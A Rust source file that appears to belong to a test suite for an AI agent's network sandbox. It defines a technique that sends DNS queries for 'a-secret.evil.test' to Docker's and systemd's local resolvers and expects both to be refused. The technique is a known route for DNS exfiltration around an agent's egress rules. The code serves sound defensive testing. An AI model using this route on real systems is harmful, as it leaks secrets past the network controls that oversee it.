//! Resolvers that containers and machines bring along.

use crate::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    id: "embedded-resolver",
    family: Family::Dns,
    name: "Resolvers that containers and machines bring along",
    tries: "Asks for a name at the addresses of Docker's own resolver and of systemd's.",
    danger: "They ask in the name of the host, past every rule on what the agent may ask.",
    places: Places::Everywhere,
    steps: &[
        Step::Udp(At(DOCKER, 53), Made("a query for a-secret.evil.test", || query(7, "a-secret.evil.test", A))),
        Step::Udp(At(SYSTEMD, 53), Made("a query for a-secret.evil.test", || query(8, "a-secret.evil.test", A))),
    ],
    expect: Expect { refusals: &[refusals(2, "dns", "default", "no_rule_allows")], ..NOTHING },
    // The loopback of its own network namespace leads nowhere, but for the engine's resolver in a container.
    on_host: Some(Expect {
        refusals: &[Refusal { times: Count::Any, ..refusal("dns", "default", "no_rule_allows") }],
        ..NOTHING
    }),
};

const DOCKER: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 11));
const SYSTEMD: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 53));
